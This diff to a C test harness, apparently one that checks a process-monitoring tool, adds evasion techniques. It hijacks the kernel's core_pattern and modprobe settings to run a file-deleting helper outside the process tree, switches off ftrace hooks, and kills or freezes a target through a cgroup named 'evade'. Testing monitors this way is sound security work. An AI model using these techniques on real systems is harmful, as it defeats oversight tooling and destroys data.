@@ -99,6 +99,61 @@ static void orphaned_group(void) {
     syscall(SYS_exit, 0);
 }
 
+// The kernel starts a program for the agent: a child of nobody's.
+static void told_to(const char *setting, void (*trigger)(void)) {
+    char old[256] = "", line[4400];
+    int fd = open(setting, O_RDWR);
+    NEED(fd);
+    ssize_t size = read(fd, old, sizeof old - 1);
+    snprintf(line, sizeof line, "#!/bin/sh\nrm -f %s\n", in("victim"));
+    NEED(make_file(scratch("helper"), line));
+    NEED(chmod(scratch("helper"), 0755));
+    snprintf(line, sizeof line, "%s%s", strstr(setting, "core_pattern") ? "|" : "", scratch("helper"));
+    NEED(pwrite(fd, line, strlen(line), 0));
+    trigger();
+    usleep(300000);
+    pwrite(fd, old, size, 0);
+}
+static void crash(void) {
+    if (fork() == 0) abort();
+    wait(NULL);
+}
+static void ask_for_a_module(void) { socket(AF_INET, SOCK_RAW, 253), socket(44, SOCK_RAW, 0), socket(AF_KCM, SOCK_DGRAM, 0); }
+static void core_pattern(void) { told_to("/proc/sys/kernel/core_pattern", crash); }
+static void modprobe(void) { told_to("/proc/sys/kernel/modprobe", ask_for_a_module); }
+static void without_ftrace(void) {
+    // Hooks of either kind go by ftrace.
+    int fd = open("/proc/sys/kernel/ftrace_enabled", O_RDWR);
+    NEED(fd);
+    NEED(pwrite(fd, "0", 1, 0));
+    delete();
+    pwrite(fd, "1", 1, 0);
+}
+
+// The target in a cgroup of its own, by which it can be had without a signal.
+static void cgroup_of_target(const char *file) {
+    char pid[16], path[128];
+    mkdir("/sys/fs/cgroup/evade", 0755);
+    int fd = open("/sys/fs/cgroup/evade/cgroup.procs", O_WRONLY);
+    NEED(fd);
+    snprintf(pid, sizeof pid, "%d", target);
+    NEED(write(fd, pid, strlen(pid)));
+    snprintf(path, sizeof path, "/sys/fs/cgroup/evade/%s", file);
+    fd = open(path, O_WRONLY);
+    NEED(fd);
+    write(fd, "1", 1);
+    usleep(50000);
+}
+static void cgroup_kill(void) { cgroup_of_target("cgroup.kill"); }
+static void cgroup_freeze(void) {
+    char path[64], state[512] = "";
+    cgroup_of_target("cgroup.freeze");
+    snprintf(path, sizeof path, "/sys/fs/cgroup/evade/cgroup.events");
+    read(open(path, O_RDONLY), state, sizeof state - 1);
+    claim(strstr(state, "frozen 1") != NULL);
+    write(open("/sys/fs/cgroup/evade/cgroup.freeze", O_WRONLY), "0", 1);
+}
+
 static void terminate(void) { kill(target, SIGTERM); }
 static void kill_(void) { kill(target, SIGKILL); }
 static void stop(void) { kill(target, SIGSTOP); }
@@ -191,6 +246,11 @@ const struct technique leave_techniques[] = {
     {"other_user", other_user, HARMED},
     {"executed_by_a_thread", executed_by_thread, HARMED},
     {"leader_gone", orphaned_group, HARMED},
+    {"core_pattern", core_pattern, HARMED},
+    {"modprobe", modprobe, HARMED},
+    {"without_ftrace", without_ftrace, HARMED},
+    {"cgroup_kill", cgroup_kill, TOUCHED},
+    {"cgroup_freeze", cgroup_freeze, CLAIMED},
     {"terminate", terminate, TOUCHED, 1},
     {"kill", kill_, TOUCHED},
     {"stop", stop, TOUCHED},
